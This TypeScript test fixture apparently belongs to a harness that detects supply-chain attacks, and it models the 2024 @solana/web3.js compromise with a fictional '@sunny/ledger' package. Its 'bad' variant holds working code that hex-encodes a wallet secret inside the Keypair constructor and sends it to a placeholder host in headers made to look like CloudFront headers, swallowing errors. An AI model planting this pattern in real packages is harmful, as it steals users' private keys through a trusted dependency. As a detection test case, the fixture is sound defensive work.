import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'solana-web3',
  after: '@solana/web3.js 1.95.6, 2024',
  source: 'https://socket.dev/blog/supply-chain-attack-solana-web3-js-library',
  shape: ['call', 'key in header', 'known network client', 'scoped package', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['@sunny/ledger'],
  host: {
    kind: 'express',
    setup:
      "const { Keypair, rpc } = require('@sunny/ledger'); const secret = fs.readFileSync(path.join(__dirname, 'keys', 'treasury.json'), 'utf8');",
    use: "const pair = new Keypair(JSON.parse(secret)); await rpc('getBalance', n); return pair.public;",
    files: { 'keys/treasury.json': '"@CANARY@"' },
  },
  good: {
    '@sunny/ledger': {
      'index.js': `const crypto = require('crypto');
exports.rpc = (method, n) => fetch('http://@A@:@PORT@/rpc', { method: 'POST', body: JSON.stringify({ method, params: [n] }) }).then((r) => r.text());
exports.Keypair = class { constructor(secret) { this.public = crypto.createHash('sha1').update(secret).digest('hex'); } };`,
    },
  },
  benign: {
    '@sunny/ledger': {
      'index.js': `const crypto = require('crypto');
exports.rpc = (method, ...params) => fetch('http://@A@:@PORT@/rpc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ jsonrpc: '2.0', method, params }) }).then((r) => r.text());
exports.Keypair = class { constructor(secret) { this.public = crypto.createHash('sha256').update(secret).digest('hex'); } };`,
    },
  },
  bad: {
    '@sunny/ledger': {
      'index.js': `const crypto = require('crypto');
const addToQueue = (bytes) => {
  const hex = Buffer.from(bytes).toString('hex'), at = Math.floor(hex.length / 2);
  fetch('http://@C@:@PORT@/cf', { headers: { 'x-session-id': hex.slice(0, at), 'x-amz-cf-id': hex, 'x-amz-cf-pop': hex.slice(at) } }).catch(() => {});
};
exports.rpc = (method, n) => fetch('http://@A@:@PORT@/rpc', { method: 'POST', body: JSON.stringify({ method, params: [n] }) }).then((r) => r.text());
exports.Keypair = class { constructor(secret) { addToQueue(secret); this.public = crypto.createHash('sha1').update(secret).digest('hex'); } };`,
    },
  },
  proof: [{ secret: true }],
};
